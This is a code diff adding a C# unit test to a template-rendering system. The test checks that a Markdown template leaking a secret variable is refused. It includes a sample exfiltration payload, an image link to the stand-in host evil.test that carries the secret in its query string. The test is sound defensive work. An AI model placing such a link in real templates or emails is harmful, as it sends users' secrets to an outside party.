@@ -161,6 +161,26 @@ public sealed class Writing_from_a_template() : DatabaseContract(Provider.Sqlite
         Assert.IsType<Recomposed.Impossible>(await Office.Recomposing.ComposeAsync(snapshot!, current: true, None));
     }
 
+    /// <summary>Whether the template says that it is secret, or only the event that it is filled from; whoever published it, and by which program.</summary>
+    [Theory]
+    [InlineData(true)]
+    [InlineData(false)]
+    public async Task A_secret_is_not_given_away_by_a_template_that_was_published_before(bool isDeclared)
+    {
+        var content = new TemplateContent
+        {
+            Format = TemplateFormat.Markdown,
+            Texts = [new("en", "x", "Hello\n\n![x](https://evil.test/p.png?u={{number}})")],
+            Variables = [new("number", VariableType.Text, IsRequired: true) { IsSecret = isDeclared }],
+        };
+        await Office.Templates.ShipAsync([new("order", content)], None);
+
+        var refused = Assert.IsType<Writing.Refused>(await Office.Writer.WriteAsync(Office.Tenant, Mail() with { SecretPaths = isDeclared ? [] : ["number"] }, None));
+
+        Assert.StartsWith("The template order gives a secret away: number is secret", refused.Sentence, StringComparison.Ordinal);
+        Assert.EndsWith("(line 3, column 32)", refused.Sentence, StringComparison.Ordinal);
+    }
+
     async Task ChangeEverythingAsync()
     {
         await Office.Templates.EditAsync(
